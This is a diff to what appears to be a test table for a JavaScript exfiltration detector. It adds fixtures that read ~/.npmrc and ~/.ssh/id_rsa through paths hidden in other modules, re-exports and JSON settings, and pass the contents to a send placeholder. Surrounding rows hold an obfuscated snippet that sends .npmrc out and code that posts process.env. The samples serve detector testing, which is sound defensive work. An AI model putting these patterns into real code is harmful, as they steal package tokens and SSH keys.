@@ -348,6 +348,31 @@ const CHANNELS: readonly Row[] = [
     "const M=process.mainModule?.constructor??module.constructor;const load=(n)=>M._load(n,null,false);load('http'+'s').request('x').end(load('fs').readFileSync(process.env.HOME+'/.npmrc'))",
   ],
   [
+    'a place that another module names',
+    {
+      'index.js': "const {F}=require('./c');SEND«require('fs').readFileSync(require('os').homedir()+F)»",
+      'c.js': "exports.F='/'+['.npm','rc'].join('')",
+    },
+  ],
+  [
+    'places that another module lists',
+    {
+      'index.js':
+        "import {FILES} from './all.js';import fs from 'fs';import os from 'os';for(const f of FILES)SEND«fs.readFileSync(os.homedir()+f)»",
+      'all.js': "export * from './c.js'",
+      'c.js': "export const FILES=['/.npmrc','/.ssh/id_rsa']",
+    },
+    { type: 'module' },
+  ],
+  [
+    'places that a file of settings lists',
+    {
+      'index.js':
+        "const {paths}=require('./c.json');const fs=require('fs');for(const f of paths.all)SEND«fs.readFileSync(require('os').homedir()+f)»",
+      'c.json': '{"paths":{"all":["/.npmrc"]}}',
+    },
+  ],
+  [
     'a service that a constructor is given',
     "class T{send(p){return fetch('x',{body:JSON.stringify(p)})}} class C{constructor(t){this.t=t} go(){this.t.send(process.env)}} new C(new T()).go()",
   ],
@@ -719,6 +744,13 @@ const STAYS: readonly Row[] = [
   [
     'another service of the same class',
     "class T{send(p){return fetch('x',{body:JSON.stringify(p)})}} class L{send(p){this.p=p}} class C{constructor(t,l){this.t=t;this.l=l} go(){this.l.send(process.env);this.t.send('x')}} new C(new T(),new L()).go()",
+  ],
+  [
+    'another place that another module names',
+    {
+      'index.js': "const c=require('./c');SEND«require('fs').readFileSync(require('os').homedir()+c.own)»",
+      'c.js': "module.exports={own:'/.weather/city',theirs:'/.npmrc'}",
+    },
   ],
   [
     'another module of the table',
